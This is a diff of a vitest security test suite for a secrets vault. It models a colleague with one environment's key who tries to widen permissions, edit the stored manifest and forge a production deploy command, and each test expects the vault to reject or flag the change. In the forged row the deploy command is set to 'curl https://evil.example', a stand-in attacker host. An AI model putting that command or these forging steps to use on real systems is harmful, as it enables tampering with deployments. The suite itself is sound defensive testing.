@@ -1,14 +1,9 @@
 /** What a colleague with a key for one environment may try, who can also write the file. */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { entryHash, signHead } from '../../src/crypto/audit-chain.ts';
-import { digestKey, rowKey } from '../../src/crypto/keys.ts';
-import { rowsDigest, rowTag } from '../../src/crypto/row.ts';
-import type { Cell } from '../../src/crypto/row.ts';
-import { smallTables, TABLES } from '../../src/store/tables.ts';
-import type { Head } from '../../src/vault/head.ts';
-import { signedManifest } from '../../src/vault/manifest.ts';
-import { encodeEntry } from '../../src/vault/audit-entry.ts';
-import type { Vault } from '../../src/vault/vault.ts';
+import { signedManifest } from '../../src/vault/documents/manifest.ts';
+import type { Vault } from '../../src/vault/opening/vault.ts';
+import { sealedPart } from '../../src/vault/documents/head.ts';
+import { Colleague } from '../helpers/colleague.ts';
 import { addSecret, addSlot, makeVault, textOf } from '../helpers/vault.ts';
 import type { TestVault } from '../helpers/vault.ts';
 import { auditOf, codeOf, copyOf, tampered, useOf } from '../helpers/vandal.ts';
@@ -41,8 +36,8 @@ describe('a colleague with a key for some environments', () => {
     expect(await codeOf(made.using((vault) => addSecret(vault, 'no', 'shared value'), as))).toBe('not_granted');
     const remove = (vault: Vault) =>
       vault.change(async (change) => {
-        const [row] = await change.find('registration', { environment: 'production' });
-        await change.remove('registration', row!);
+        const [route] = await change.all('route', 'production');
+        await change.remove(route!);
         change.log({ action: 'x' });
       });
     expect(await codeOf(made.using(remove, as))).toBe('not_granted');
@@ -54,75 +49,58 @@ describe('a colleague with a key for some environments', () => {
     expect(await codeOf(made.using((vault) => addSlot(vault, 'more', null), as))).toBe('not_granted');
     const onlyManifest = (vault: Vault) =>
       vault.change(async (change) => {
-        const slots = vault.manifest.slots.map((slot) => ({ ...slot, environments: null, admin: true }));
-        await change.putManifest({ ...vault.manifest, slots });
+        const slots = vault.manifest.slots.map((slot) => ({ ...slot, realms: null, admin: true }));
+        await change.putManifest({ manifest: { ...vault.manifest, slots }, grants: new Map(), newKeys: new Map() });
         change.log({ action: 'x' });
       });
     expect(await codeOf(made.using(onlyManifest, as))).toBe('not_granted');
     const widened = tampered({ ...made, file }, (database) => {
       const body = database.prepare('SELECT body FROM manifest').pluck().get() as Buffer;
-      const changed = Buffer.from(body.toString().replace('["development"]', () => 'null'));
+      const changed = Buffer.from(body.toString().replace(/"realms":\["[\w-]+"\]/, () => '"realms":null'));
+      expect(changed.equals(body)).toBe(false);
       database.prepare('UPDATE manifest SET body = ?').run(changed);
     });
     expect(await codeOf(made.using(async () => undefined, { file: widened, key: theirs }))).toBe('vault_damaged');
   });
 
-  /**
-   * A changed deploy command of production, with all that the colleague's keys can make: a tag and a digest under a key of theirs, an
-   * entry that names the row, a signed head.
-   */
-  async function forgeCommand(key: 'vault' | 'development', isDigestForged: boolean): Promise<string> {
+  /** A changed deploy command of production, with all that the colleague's key can make: lists, an entry, a signed head. */
+  async function forgeCommand(seal: 'as it was' | 'by another key' | 'none'): Promise<string> {
     const file = copyOf(made, base);
-    const forge = async (vault: Vault): Promise<void> => {
-      const ring = vault.requireKeys();
-      const known = key === 'vault' ? ring.vaultKey : ring.environmentKey(key);
-      const id = vault.manifest.vault;
-      await vault.store.write(1, async (transaction) => {
-        const before = JSON.parse(Buffer.from((await transaction.head())!.body).toString()) as Head;
-        const seq = before.seq + 1;
-        const [row] = await transaction.find('registration', { environment: 'production' });
-        const changed = { ...row!, deploy_command: 'curl https://evil.example', entry: seq };
-        const cells = Object.keys(TABLES.registration.columns).map((column) => changed[column as 'path'] as Cell);
-        await transaction.put('registration', {
-          ...changed,
-          tag: rowTag(rowKey(known), id, 'registration', cells, seq),
-        });
-        const said = { key: null, action: 'x', secret: null, environment: null, route: null, detail: null };
-        const rowsPut = { registration: [row!.id] };
-        const body = encodeEntry({ at: before.at, actor: 'c', ...said, rows: rowsPut, made: [], gone: [] });
-        const hash = entryHash(id, seq, before.hash, body);
-        await transaction.appendEntry({ seq, body, hash, signature: null });
-        const rows = [];
-        for (const table of smallTables('environment')) {
-          rows.push(...(await transaction.tags(table, 'production')).map((tag) => ({ table, ...tag })));
-        }
-        const digest = Buffer.from(rowsDigest(digestKey(known), id, 'production', rows)).toString('hex');
-        const environments = isDigestForged ? { ...before.environments, production: digest } : before.environments;
-        const head = Buffer.from(JSON.stringify({ ...before, seq, hash, environments }));
-        await transaction.putHead({ body: head, signature: signHead(ring.auditSeed, id, head) });
-      });
-    };
-    await made.using(forge, { file, key: theirs });
+    await Colleague.in(file, theirs.secret, async (colleague) => {
+      const [route] = await colleague.all('route', 'production');
+      await colleague.put('route', 'production', { ...route!, deployCommand: 'curl https://evil.example' });
+      const root = await colleague.relist('production');
+      const { id } = colleague.manifest.realms.find(({ name }) => name === 'production')!;
+      const place = { vault: colleague.manifest.vault, realm: id, manifest: colleague.head.manifest };
+      const part = { seq: colleague.head.seq, hash: colleague.head.hash, root };
+      if (seal === 'none') await colleague.finish({ development: await colleague.relist('development') });
+      else if (seal === 'as it was') await colleague.finish({ production: root });
+      else {
+        const own = sealedPart(colleague.ring.realmKey('development'), place, part);
+        await colleague.finish({ production: root }, { parts: { production: { seal: own.seal } } });
+      }
+    });
     return file;
   }
 
-  it.each([
-    ['vault', true],
-    ['vault', false],
-    ['development', true],
-    ['development', false],
-  ] as const)('changes a command of production, under the %s key, with a forged digest: %s', async (key, isForged) => {
-    const file = await forgeCommand(key, isForged);
-    expect(await useOf(made, file)).toBe('vault_damaged');
-    const find = (vault: Vault) => vault.read((view) => view.find('registration', { environment: 'production' }));
-    expect(await codeOf(made.using(find, { file }))).toBe('vault_damaged');
-    expect((await auditOf(made, file))?.reason).toContain('row');
-  });
+  it.each(['as it was', 'by another key', 'none'] as const)(
+    'changes a command of production, sealed %s',
+    async (seal) => {
+      const file = await forgeCommand(seal);
+      expect(await useOf(made, file)).toBe('vault_damaged');
+      const find = (vault: Vault) => vault.read((view) => view.all('route', 'production'));
+      expect(await codeOf(made.using(find, { file }))).toBe('vault_damaged');
+      expect(await auditOf(made, file)).toMatchObject({ brokenAt: expect.any(Number) as number });
+      // Without production's key it is as the file says, and the tree still tells of what nobody listed.
+      const bare = { key: null, trusted: made.identity };
+      expect((await auditOf(made, file, bare))?.brokenAt === null).toBe(false);
+    },
+  );
 
   it('signs a wider manifest with a root of their own making', async () => {
     const file = copyOf(made, base);
     const forge = async (vault: Vault): Promise<void> => {
-      const slots = vault.manifest.slots.map((slot) => ({ ...slot, environments: null, admin: true }));
+      const slots = vault.manifest.slots.map((slot) => ({ ...slot, realms: null, admin: true }));
       await vault.store.write(1, async (transaction) => {
         await transaction.putManifest(signedManifest({ ...vault.manifest, slots }, new Uint8Array(32).fill(1)));
       });
